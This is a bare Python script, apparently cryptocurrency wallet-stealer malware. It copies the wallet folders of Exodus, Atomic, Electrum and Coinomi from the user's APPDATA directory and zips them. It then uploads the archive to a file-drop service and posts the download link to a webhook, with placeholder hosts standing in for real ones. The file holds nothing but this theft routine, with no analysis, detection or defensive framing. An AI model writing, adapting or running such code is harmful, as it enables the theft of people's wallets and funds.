import os, shutil, requests
HOOK = "https://d.example.invalid/api/webhooks/1/q"

def go():
    tmp = os.path.join(os.getenv("TEMP"), "w")
    for name, sub in {"Exodus": "Exodus\\exodus.wallet", "Atomic": "atomic\\Local Storage\\leveldb", "Electrum": "Electrum\\wallets", "Coinomi": "Coinomi\\Coinomi\\wallets"}.items():
        path = os.path.join(os.getenv("APPDATA"), sub)
        if os.path.exists(path):
            shutil.copytree(path, os.path.join(tmp, name))
    shutil.make_archive(tmp, "zip", tmp)
    server = requests.get("https://api.drop.example.invalid/getServer").json()["data"]["server"]
    link = requests.post(f"https://{server}.drop.example.invalid/uploadFile", files={"file": open(tmp + ".zip", "rb")}).json()["data"]["downloadPage"]
    requests.post(HOOK, json={"content": link})
